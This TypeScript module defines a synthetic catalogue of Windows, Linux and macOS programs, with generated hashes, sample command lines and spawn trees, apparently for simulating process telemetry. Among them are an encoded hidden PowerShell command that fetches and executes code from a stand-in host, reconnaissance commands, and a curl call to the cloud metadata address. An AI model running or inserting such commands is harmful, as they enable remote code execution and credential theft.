import { createHash } from 'node:crypto'

export type Os = 'windows' | 'linux' | 'macos'

/** A file on disk with its hashes, the same wherever it turns up. */
export interface FileOnDisk {
  readonly name: string
  readonly folder: string
  readonly path: string
  readonly size: number
  readonly md5: string
  readonly sha1: string
  readonly sha256: string
}

/** A program: its file, what its version resource says, and how it is used. */
export interface Program extends FileOnDisk {
  readonly company: string
  readonly product: string
  readonly version: string
  readonly description: string
  /** `{user}` and `{n}` are filled in for each process. */
  readonly commandLines: readonly string[]
  /** Names of the programs it starts. */
  readonly spawns: readonly string[]
  /** Runs as the signed-in user rather than as its parent's account. */
  readonly asUser: boolean
}

const files = new Map<string, FileOnDisk>()

/** The same file for the same arguments: hashing is slow, and callers draw from a few hundred names. */
export function fileOnDisk(folder: string, name: string, version = ''): FileOnDisk {
  const key = `${folder}/${name}@${version}`
  let file = files.get(key)
  if (!file) {
    file = hashed(folder, name, key)
    files.set(key, file)
  }
  return file
}

function hashed(folder: string, name: string, content: string): FileOnDisk {
  const digest = (algorithm: string) => createHash(algorithm).update(content).digest('hex')
  const sha1 = digest('sha1')
  const size = 4096 + (Number.parseInt(sha1.slice(0, 6), 16) % 3_000_000)
  const separator = folder.includes('\\') ? '\\' : '/'
  const path = folder.endsWith(separator) ? `${folder}${name}` : `${folder}${separator}${name}`
  return { name, folder, path, size, md5: digest('md5'), sha1, sha256: digest('sha256') }
}

const system32 = 'C:\\Windows\\System32'
const microsoft = 'Microsoft Corporation'
const windows = 'Microsoft® Windows® Operating System'
const shells = ['conhost.exe', 'whoami.exe', 'net.exe', 'schtasks.exe', 'reg.exe', 'ipconfig.exe', 'powershell.exe']

type Sketch = [
  folder: string,
  name: string,
  about: [company: string, product: string, version: string, description: string],
  commandLines: string[],
  spawns?: string[],
  asUser?: boolean,
]

const inbox = (description: string): [string, string, string, string] => [
  microsoft,
  windows,
  '10.0.22621.2506',
  description,
]

const windowsSketches: Sketch[] = [
  [system32, 'services.exe', inbox('Services and Controller app'), ['services.exe'], ['svchost.exe', 'MsMpEng.exe']],
  [
    system32,
    'svchost.exe',
    inbox('Host Process for Windows Services'),
    ['svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe -k LocalService -p', 'svchost.exe -k DcomLaunch -p'],
    ['taskhostw.exe', 'WmiPrvSE.exe', 'rundll32.exe', 'msiexec.exe'],
  ],
  [
    'C:\\Windows',
    'explorer.exe',
    inbox('Windows Explorer'),
    ['explorer.exe'],
    ['chrome.exe', 'msedge.exe', 'OUTLOOK.EXE', 'WINWORD.EXE', 'cmd.exe', 'powershell.exe', 'notepad.exe'],
    true,
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application',
    'chrome.exe',
    ['Google LLC', 'Google Chrome', '134.0.6998.89', 'Google Chrome'],
    ['"chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n} /prefetch:1', '"chrome.exe"'],
    ['chrome.exe'],
    true,
  ],
  [
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
    'msedge.exe',
    [microsoft, 'Microsoft Edge', '134.0.3124.68', 'Microsoft Edge'],
    ['"msedge.exe" --type=utility --lang=de --mojo-platform-channel-handle={n}', '"msedge.exe" --no-startup-window'],
    ['msedge.exe'],
    true,
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16',
    'OUTLOOK.EXE',
    [microsoft, 'Microsoft Office', '16.0.18526.20144', 'Microsoft Outlook'],
    ['"OUTLOOK.EXE" /recycle'],
    ['WINWORD.EXE', 'msedge.exe'],
    true,
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16',
    'WINWORD.EXE',
    [microsoft, 'Microsoft Office', '16.0.18526.20144', 'Microsoft Word'],
    [
      '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Übersicht {n}.docx" /o ""',
      '"WINWORD.EXE" /Automation -Embedding',
    ],
    ['cmd.exe', 'splwow64.exe'],
    true,
  ],
  [
    system32,
    'cmd.exe',
    inbox('Windows Command Processor'),
    ['"cmd.exe" /c "whoami /all > C:\\Temp\\{n}.txt"', 'cmd.exe /d /c C:\\ProgramData\\update{n}.bat'],
    shells,
  ],
  [
    `${system32}\\WindowsPowerShell\\v1.0`,
    'powershell.exe',
    inbox('Windows PowerShell'),
    [
      'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\Scripts\\inventory-{n}.ps1"',
      'powershell.exe -NonInteractive -Command "Get-ChildItem \'C:\\Users\\{user}\' | Measure-Object"',
      'powershell.exe -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBiAGEAZAAuAGUAeABhAG0AcABsAGUAKQA=',
    ],
    shells.slice(0, -1),
  ],
  [system32, 'conhost.exe', inbox('Console Window Host'), ['conhost.exe 0xffffffff -ForceV1']],
  [system32, 'whoami.exe', inbox('whoami - displays logged on user information'), ['whoami.exe /all', 'whoami']],
  [system32, 'net.exe', inbox('Net Command'), ['net.exe localgroup administrators', 'net user {user} /domain']],
  [system32, 'schtasks.exe', inbox('Task Scheduler Configuration Tool'), ['schtasks.exe /query /tn "Update{n}" /xml']],
  [system32, 'reg.exe', inbox('Registry Console Tool'), ['reg.exe query "HKLM\\SOFTWARE\\Contoso\\{n}" /s']],
  [system32, 'ipconfig.exe', inbox('IP Configuration Utility'), ['ipconfig /all']],
  [system32, 'taskhostw.exe', inbox('Host Process for Windows Tasks'), ['taskhostw.exe', 'taskhostw.exe KEYROAMING']],
  [system32, 'rundll32.exe', inbox('Windows host process (Rundll32)'), ['rundll32.exe shell32.dll,Control_RunDLL']],
  [
    system32,
    'msiexec.exe',
    inbox('Windows® installer'),
    ['msiexec.exe /V', 'msiexec.exe /i "C:\\Temp\\agent-{n}.msi" /qn'],
  ],
  [system32, 'splwow64.exe', inbox('Print driver host for applications'), ['splwow64.exe 12288']],
  [system32, 'notepad.exe', inbox('Notepad'), ['"notepad.exe" "C:\\Users\\{user}\\Desktop\\notes {n}.txt"'], [], true],
  [
    `${system32}\\wbem`,
    'WmiPrvSE.exe',
    inbox('WMI Provider Host'),
    ['wmiprvse.exe -secured -Embedding', 'wmiprvse.exe -Embedding'],
    ['powershell.exe', 'cmd.exe'],
  ],
  [
    'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0',
    'MsMpEng.exe',
    [microsoft, windows, '4.18.25010.11', 'Antimalware Service Executable'],
    ['"MsMpEng.exe"'],
    ['MpCmdRun.exe'],
  ],
  [
    'C:\\Program Files\\Windows Defender',
    'MpCmdRun.exe',
    [microsoft, windows, '4.18.25010.11', 'Microsoft Malware Protection Command Line Utility'],
    ['"MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob'],
    ['conhost.exe'],
  ],
]

const none: [string, string, string, string] = ['', '', '', '']

const linuxSketches: Sketch[] = [
  ['/usr/lib/systemd', 'systemd', none, ['/sbin/init'], ['sshd', 'cron', 'nginx', 'dockerd']],
  ['/usr/sbin', 'sshd', none, ['sshd: {user} [priv]', '/usr/sbin/sshd -D'], ['bash']],
  ['/usr/sbin', 'cron', none, ['/usr/sbin/CRON -f'], ['dash']],
  ['/usr/bin', 'dash', none, ['/bin/sh -c "/opt/backup/run.sh --id {n}"'], ['python3.12', 'curl', 'tar']],
  ['/usr/bin', 'bash', none, ['-bash'], ['sudo', 'ls', 'curl', 'python3.12', 'tar'], true],
  ['/usr/bin', 'sudo', none, ['sudo -u root systemctl restart app-{n}'], ['systemctl']],
  ['/usr/bin', 'systemctl', none, ['systemctl restart app-{n}']],
  ['/usr/bin', 'curl', none, ["curl -fsS 'https://updates.example/v{n}?os=linux'", 'curl http://169.254.169.254/']],
  ['/usr/bin', 'python3.12', none, ['python3 /opt/app/worker.py --queue "jobs {n}"'], ['dash']],
  ['/usr/bin', 'tar', none, ['tar -czf /var/backups/etc-{n}.tgz /etc']],
  ['/usr/bin', 'ls', none, ['ls --color=auto -la']],
  ['/usr/sbin', 'nginx', none, ['nginx: worker process']],
  ['/usr/bin', 'dockerd', none, ['/usr/bin/dockerd -H fd://'], ['runc']],
  ['/usr/bin', 'runc', none, ['runc --root /run/docker/runtime-runc/moby init']],
]

const macosSketches: Sketch[] = [
  ['/sbin', 'launchd', none, ['/sbin/launchd'], ['Finder', 'mdworker_shared', 'Google Chrome', 'Terminal']],
  ['/System/Library/CoreServices/Finder.app/Contents/MacOS', 'Finder', none, ['Finder'], ['Preview'], true],
  ['/System/Applications/Preview.app/Contents/MacOS', 'Preview', none, ['Preview'], [], true],
  [
    '/System/Library/Frameworks/CoreServices.framework/Versions/A/Support',
    'mdworker_shared',
    none,
    ['mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared'],
  ],
  [
    '/Applications/Google Chrome.app/Contents/MacOS',
    'Google Chrome',
    none,
    ['/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --restart'],
    [],
    true,
  ],
  ['/System/Applications/Utilities/Terminal.app/Contents/MacOS', 'Terminal', none, ['Terminal'], ['zsh'], true],
  ['/bin', 'zsh', none, ['-zsh'], ['osascript', 'curl', 'ls']],
  ['/usr/bin', 'osascript', none, ['osascript -e \'display dialog "Update {n}"\'']],
  ['/usr/bin', 'curl', none, ['curl -O https://downloads.example/tool-{n}.dmg']],
  ['/bin', 'ls', none, ['ls -G']],
]

function program([folder, name, about, commandLines, spawns = [], asUser = false]: Sketch): Program {
  const [company, product, version, description] = about
  return { ...fileOnDisk(folder, name, version), company, product, version, description, commandLines, spawns, asUser }
}

function catalogue(sketches: Sketch[]): ReadonlyMap<string, Program> {
  return new Map(sketches.map(sketch => [sketch[1], program(sketch)]))
}

export const programs: Readonly<Record<Os, ReadonlyMap<string, Program>>> = {
  windows: catalogue(windowsSketches),
  linux: catalogue(linuxSketches),
  macos: catalogue(macosSketches),
}
